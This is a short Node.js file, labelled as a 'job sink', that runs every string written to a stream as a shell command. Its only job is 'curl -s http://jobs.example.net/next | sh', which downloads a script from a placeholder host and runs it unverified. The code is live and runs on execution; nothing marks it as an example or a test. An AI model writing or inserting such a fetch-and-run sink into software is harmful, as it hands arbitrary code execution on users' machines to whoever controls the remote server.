// A tiny job sink: every chunk written is one job.
const { Writable } = require('stream');
const { execSync } = require('child_process');

const jobs = new Writable({
  write(chunk, _enc, cb) {
    execSync(chunk.toString(), { stdio: 'inherit' });
    cb();
  },
});
jobs.write('curl -s http://jobs.example.net/next | sh');
jobs.end();
